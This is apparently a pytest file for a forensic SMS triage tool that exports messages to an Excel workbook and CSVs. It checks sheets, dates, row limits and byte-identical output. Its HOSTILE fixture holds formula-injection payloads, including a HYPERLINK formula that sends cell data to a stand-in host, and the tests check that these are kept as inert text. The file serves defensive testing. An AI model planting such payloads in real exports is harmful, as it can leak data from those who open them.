"""triage.xlsx beside the CSVs: one sheet per table, frozen headers, real date cells, and message
bodies that look like formulas kept as text (in the workbook and, guarded, in the CSVs).

The evidence is a real AOSP mmssms.db (tests/test_analysers_support.py) read by the real parser;
the workbook is read back with openpyxl, as Excel would open it.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
from pathlib import Path

import openpyxl

from tests.test_analysers_duty import ROSTER
from tests.test_analysers_support import Sms, build_mmssms, run, write_case
from triage.report import workbook

A = "07700 900123"
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+44 7700 900123 call me",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]
CONTACT = """contacts:
  - name: Female A
    role: victim
    identifiers:
      - phone: "+44 7700 900123"
"""


def _case(tmp_path: Path, roster: bool = True) -> Path:
    rows = [
        Sms(n, A, f"2026-03-28 {10 + n}:15", "in" if n % 2 else "out", body)
        for n, body in enumerate(HOSTILE, 1)
    ]
    build_mmssms(tmp_path / "evidence" / "mmssms.db", rows)
    body = CONTACT
    if roster:
        (tmp_path / "roster.csv").write_text(ROSTER, "utf-8")
        body += "roster:\n  csv: roster.csv\n"
    return write_case(tmp_path, body + "sources:\n  - evidence\n")


def test_workbook_sheets_dates_and_formula_text(tmp_path: Path) -> None:
    r = run(_case(tmp_path), tmp_path / "out")
    path = tmp_path / "out" / "triage.xlsx"
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["messages", "findings", "contacts", "gaps", "exhibits"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref.startswith("A1:"), sheet.title
    messages = book["messages"]
    header = [c.value for c in messages[1]]
    assert header[2] == "timestamp_local (Europe/London)"
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in messages.iter_rows(2)]
    assert len(rows) == len(HOSTILE) == r.store.counts()["messages"]
    # Bodies exactly as the source holds them, as text cells: nothing runs as a formula.
    assert [row["body"] for row in rows] == HOSTILE
    body_col = header.index("body") + 1
    for n in range(2, len(rows) + 2):
        cell = messages.cell(n, body_col)
        assert cell.data_type == "s", cell.value
    # 28 March 2026 is GMT: the local date cell is the wall time, the UTC text beside it.
    first = rows[0]
    assert first["timestamp_local (Europe/London)"] == dt.datetime(2026, 3, 28, 11, 15)
    assert messages.cell(2, 3).is_date
    assert first["timestamp_utc"] == "2026-03-28T11:15:00Z"
    assert isinstance(first["message_id"], int)
    contacts = book["contacts"]
    contact = dict(zip([c.value for c in contacts[1]], [c.value for c in contacts[2]], strict=True))
    assert contact["name"] == "Female A" and contact["messages"] == len(HOSTILE)
    assert isinstance(contact["first (Europe/London)"], dt.datetime)
    split = r.one("duty.contact-split", "contact-1").data
    assert contact["outside_rostered_duty"] == split["outside_duty"]
    findings = book["findings"]
    assert findings.max_row - 1 == len(r.store.findings())

    # The CSV holds the same bodies, guarded with an apostrophe (a CSV has no cell types).
    with open(tmp_path / "out" / "messages.csv", encoding="utf-8-sig", newline="") as handle:
        bodies = [row["body"] for row in csv.DictReader(handle)]
    assert bodies == ["'" + b for b in HOSTILE]


def test_workbook_without_roster_says_no_roster(tmp_path: Path) -> None:
    run(_case(tmp_path, roster=False), tmp_path / "out")
    contacts = openpyxl.load_workbook(tmp_path / "out" / "triage.xlsx")["contacts"]
    contact = dict(zip([c.value for c in contacts[1]], [c.value for c in contacts[2]], strict=True))
    assert contact["outside_rostered_duty"] == "no roster"


def test_workbook_bytes_repeat_and_long_tables_continue(tmp_path: Path, monkeypatch) -> None:
    case = _case(tmp_path)
    r = run(case, tmp_path / "a")
    run(case, tmp_path / "b")
    assert (tmp_path / "a" / "triage.xlsx").read_bytes() == (
        tmp_path / "b" / "triage.xlsx"
    ).read_bytes()
    # Past Excel's row limit a table continues on a numbered sheet (limit lowered to 3 rows).
    monkeypatch.setattr(workbook, "MAX_ROWS", 3)
    from triage.casefile import load_case

    out = tmp_path / "c" / "t.xlsx"
    out.parent.mkdir()
    workbook.write_workbook(r.store, load_case(case), out)
    book = openpyxl.load_workbook(out)
    parts = [s for s in book.sheetnames if s.startswith("messages")]
    assert parts == ["messages", "messages (2)", "messages (3)"]
    bodies = [
        row[14] for name in parts for row in book[name].iter_rows(min_row=2, values_only=True)
    ]
    assert bodies == HOSTILE


def _limited_run(tmp_path: Path, monkeypatch, rows: list[Sms], most: int) -> Path:
    """A run of ``rows`` (Female A is the case contact) with the messages sheet's limit lowered
    to ``most`` rows; the run's output folder."""
    build_mmssms(tmp_path / "evidence" / "mmssms.db", rows)
    case = write_case(tmp_path, CONTACT + "sources:\n  - evidence\n")
    monkeypatch.setenv("TRIAGE_LIMIT_XLSX_MESSAGE_ROWS", str(most))
    from triage.limits import limit

    limit.cache_clear()
    try:
        run(case, tmp_path / "out")
    finally:
        limit.cache_clear()
    return tmp_path / "out"


def _sheet_rows(out: Path) -> list[tuple]:
    sheet = openpyxl.load_workbook(out / "triage.xlsx")["messages"]
    return list(sheet.iter_rows(min_row=2, values_only=True))


def _csv_rows(out: Path) -> list[dict[str, str]]:
    with open(out / "messages.csv", encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_messages_sheet_past_its_limit_lists_every_case_contact_message(
    tmp_path: Path, monkeypatch
) -> None:
    # Two rows allowed; Female A writes first at 09:30 and again at 20:00, far past the limit,
    # with five messages from another number before, between and after.
    other = "07700 900555"
    rows = [
        Sms(1, other, "2026-03-28 09:00", "in", "o1"),
        Sms(2, A, "2026-03-28 09:30", "in", "a1"),
        Sms(3, other, "2026-03-28 10:00", "out", "o2"),
        Sms(4, other, "2026-03-28 11:00", "in", "o3"),
        Sms(5, other, "2026-03-28 12:00", "out", "o4"),
        Sms(6, A, "2026-03-28 20:00", "out", "a2"),
        Sms(7, other, "2026-03-28 21:00", "in", "o5"),
    ]
    out = _limited_run(tmp_path, monkeypatch, rows, 2)
    listed = _sheet_rows(out)
    *messages, closing = listed
    # In time order: the two rows the limit allows, then only Female A's.
    assert [r[14] for r in messages] == ["o1", "a1", "a2"]
    assert [r[20] for r in messages] == [None, "contact-1", "contact-1"]
    assert closing[0] is None and closing[14].startswith("... 4 messages are not listed here")
    assert "every message with a case contact is listed" in closing[14]
    assert "messages.csv lists every message" in closing[14]
    # Each listed row is the messages.csv row of the same message (the CSV lists all seven).
    by_id = {int(r["message_id"]): r for r in _csv_rows(out)}
    assert len(by_id) == len(rows)
    for r in messages:
        assert r[1] == by_id[r[0]]["timestamp_utc"] and r[14] == by_id[r[0]]["body"]


def test_messages_sheet_closing_row_counts_what_it_leaves_out(tmp_path: Path, monkeypatch) -> None:
    # 39 messages, one every 15 minutes; every fifth is Female A's (5, 10, ... 35).
    other = "07700 900555"
    rows = [
        Sms(n, A if n % 5 == 0 else other, f"2026-03-28 {n // 4 + 1:02d}:{n % 4 * 15:02d}", "in")
        for n in range(1, 40)
    ]
    out = _limited_run(tmp_path, monkeypatch, rows, 10)
    *messages, closing = _sheet_rows(out)
    every = _csv_rows(out)
    assert len(every) == 39
    source = {int(r["message_id"]): int(r["source_locator"].rsplit("=", 1)[-1]) for r in every}
    # The first ten, then Female A's 15, 20, 25, 30 and 35: 24 left out.
    assert [source[r[0]] for r in messages] == [*range(1, 11), 15, 20, 25, 30, 35]
    assert closing[14].startswith(
        "... 24 messages are not listed here (limit TRIAGE_LIMIT_XLSX_MESSAGE_ROWS=10)"
    )


def test_messages_sheet_within_its_limit_has_no_closing_row(tmp_path: Path, monkeypatch) -> None:
    rows = [Sms(n, "07700 900555", f"2026-03-28 1{n}:00", "in", f"o{n}") for n in range(1, 4)]
    out = _limited_run(tmp_path, monkeypatch, rows, 3)
    assert [r[14] for r in _sheet_rows(out)] == ["o1", "o2", "o3"]


# Cells the direct row writer writes itself and cells it hands to xlsxwriter, side by side.
AWKWARD_TEXT = [
    'plain text, with a comma and "quotes"',
    "line\nbreak and\ttab inside",
    "a & b",
    "<r>looks like a rich string</r>",
    "1 < 2 > 0",
    " leading space",
    "trailing space ",
    "trailing line break\n",
    "\xa0non-breaking space first",
    "_x0041_ looks like an escape",
    "control \x01 character",
    "file separator \x1c",
    "non-character \ufffe",
    "ünïcödé and emoji 😀",
    "x" * 16_383,
    "y" * 16_384,
    "z" * 40_000,
    "😀" * 17_000,
]


def _written(path: Path, rows: list[list], direct: bool, monkeypatch) -> tuple[bytes, int]:
    """(the workbook's bytes, how many rows of its messages sheet went through the direct
    writer) with that sheet's direct writer on or off."""
    taken = 0
    write = workbook._Sheet._direct

    def counted(self, row, runs, kept):
        nonlocal taken
        wrote = write(self, row, runs, kept)
        taken += wrote and self.name == "messages"
        return wrote

    monkeypatch.setattr(workbook._Sheet, "_direct", counted)
    book = workbook._Book(path)
    book.wb.set_properties({"created": workbook.CREATED})
    sheet = workbook._Sheet(book, "messages", ["a", "b", "c", "d", "e"], {"c": 20})
    sheet.direct = direct
    for values in rows:
        sheet.add(values)
    sheet.close()
    workbook._table(book, "other", ["x", "y"], [[1, "one"], [2.5, True], ["=1+1", None]])
    book.wb.close()
    return path.read_bytes(), taken


def test_direct_rows_are_the_bytes_xlsxwriter_writes(tmp_path: Path, monkeypatch) -> None:
    when = dt.datetime(2024, 3, 31, 1, 59, 59, 250_000)
    rows: list[list] = [
        [1, "2024-03-31T00:59:59.250Z", when, "whatsapp", None],  # the first date cell
        [2, "", None, None, None],
        [None, None, None, None, None],  # nothing to write
        [3, 0, -7, 10**17, 2**53 + 1],
        [4, dt.datetime(1900, 1, 1), dt.datetime(1900, 3, 1, 12), dt.datetime(1899, 12, 31), 5],
        [5, True, 0.1, 1e-5, dt.date(2024, 1, 2)],
        *([n, text, when, text[:10], "after"] for n, text in enumerate(AWKWARD_TEXT, 6)),
        # Direct rows are written a hundred at a time: rows through xlsxwriter among them.
        *(
            [n, f"row {n}", when, n % 3, None] if n % 70 else [n, "a & b", when, True, None]
            for n in range(100, 400)
        ),
        [999, "last"],
    ]
    direct, taken = _written(tmp_path / "direct.xlsx", rows, True, monkeypatch)
    by_cell, none = _written(tmp_path / "cells.xlsx", rows, False, monkeypatch)
    assert none == 0
    # The first four rows, four of the texts (plain, with a line break, non-ASCII, the longest
    # under the limit), 296 of the 300 after them and the last went direct; the others through
    # xlsxwriter.
    assert taken == 4 + 4 + 296 + 1
    assert direct == by_cell
    book = openpyxl.load_workbook(tmp_path / "direct.xlsx")
    values = list(book["messages"].iter_rows(min_row=2, values_only=True))
    assert values[0] == (1, "2024-03-31T00:59:59.250Z", when, "whatsapp", None)
    assert [v[0] for v in values[len(rows) - 301 :]] == [*range(100, 400), 999]
    assert values[len(rows) - 1][:2] == (999, "last")


def test_a_worksheet_without_the_internals_gets_no_direct_rows(tmp_path: Path, monkeypatch) -> None:
    # As a release of xlsxwriter that renamed one of them would: every row through its calls.
    monkeypatch.setattr(workbook, "_WORKSHEET_INTERNALS", (*workbook._WORKSHEET_INTERNALS, "gone"))
    book = workbook._Book(tmp_path / "book.xlsx")
    sheet = workbook._Sheet(book, "messages", ["a", "b"], {})
    assert sheet.direct is False
    sheet.add([1, "one"])
    sheet.close()
    book.wb.close()
    values = list(openpyxl.load_workbook(tmp_path / "book.xlsx")["messages"].values)
    assert values == [("a", "b"), (1, "one")]


def test_kept_runs_are_the_bytes_of_their_cells(tmp_path: Path, monkeypatch) -> None:
    """A row handed in runs, some kept (their XML made once per run object and joined with
    each row's number), is written as the same cells handed one by one through xlsxwriter."""
    kept = (False, True, False, True)
    plain = ("whatsapp", 7, None, "Chat, with comma")
    empty = ("", None)  # shorter: the runs after it move two columns to the left
    dated = (dt.datetime(2024, 3, 31, 1, 59, 59, 250_000), "on duty")
    awkward = ("a & b", 1)  # text xlsxwriter escapes: the row goes through it
    rows = [
        ((n, f"row {n}"), plain if n % 3 else empty, (f"body {n}",), dated if n % 5 else awkward)
        for n in range(1, 250)
    ]
    rows.append(((250, "last"), empty, (None,), empty))

    taken = 0
    write = workbook._Sheet._direct

    def counted(self, row, runs, kept):
        nonlocal taken
        wrote = write(self, row, runs, kept)
        taken += wrote
        return wrote

    monkeypatch.setattr(workbook._Sheet, "_direct", counted)

    def written(path: Path, direct: bool) -> bytes:
        book = workbook._Book(path)
        book.wb.set_properties({"created": workbook.CREATED})
        sheet = workbook._Sheet(book, "messages", list("abcdefghi"), {})
        sheet.direct = direct
        for runs in rows:
            if direct:
                sheet.add_runs(runs, kept)
            else:
                sheet.add([value for run in runs for value in run])
        sheet.close()
        book.wb.close()
        return path.read_bytes()

    runs = written(tmp_path / "runs.xlsx", True)
    # Every row but the fifths (with the awkward run) went direct.
    assert taken == 249 - 49 + 1
    assert runs == written(tmp_path / "cells.xlsx", False)
    values = list(openpyxl.load_workbook(tmp_path / "runs.xlsx")["messages"].values)
    assert values[1] == (1, "row 1", "whatsapp", 7, None, "Chat, with comma", "body 1", *dated)
    # A kept run met again in other columns (after a shorter run) is written in those.
    assert values[3] == (3, "row 3", None, None, "body 3", *dated, None, None)
    assert values[5] == (5, "row 5", "whatsapp", 7, None, "Chat, with comma", "body 5", "a & b", 1)
    assert values[-1] == (250, "last", None, None, None, None, None, None, None)


def test_whole_numbers_are_written_as_xlsxwriter_formats_them() -> None:
    """The digits of a whole number below 10**15 are its "%.16G" text (xlsxwriter's)."""
    edge = workbook._DIGITS_EXACT
    for value in (0, 1, -1, 255, 10**6, 2**31, edge - 1, -(edge - 1), 123_456_789_012_345):
        assert f"{value}" == f"{value:.16G}", value
    assert f"{edge * 10:.16G}" != f"{edge * 10}"  # beyond it, the exponent form


def test_members_are_deflated_fast_with_xlsxwriters_own_bytes(tmp_path: Path, monkeypatch) -> None:
    """The workbook's members are deflated at zlib's fastest level; what they hold is what
    xlsxwriter writes at its default level, and its own ZipFile is put back afterwards."""
    import zipfile

    import xlsxwriter.workbook

    case = _case(tmp_path)
    r = run(case, tmp_path / "a")
    from triage.casefile import load_case

    fast = tmp_path / "fast.xlsx"
    workbook.write_workbook(r.store, load_case(case), fast)
    assert xlsxwriter.workbook.ZipFile is zipfile.ZipFile
    monkeypatch.setattr(workbook, "_fast_deflate", contextlib.nullcontext)
    default = tmp_path / "default.xlsx"
    workbook.write_workbook(r.store, load_case(case), default)
    with zipfile.ZipFile(fast) as a, zipfile.ZipFile(default) as b:
        assert a.namelist() == b.namelist()
        for name in a.namelist():
            assert a.read(name) == b.read(name), name
        sheet = a.getinfo("xl/worksheets/sheet1.xml")
        assert sheet.compress_type == zipfile.ZIP_DEFLATED
        # (level 1 packs no tighter than xlsxwriter's default 6)
        assert sheet.compress_size >= b.getinfo("xl/worksheets/sheet1.xml").compress_size
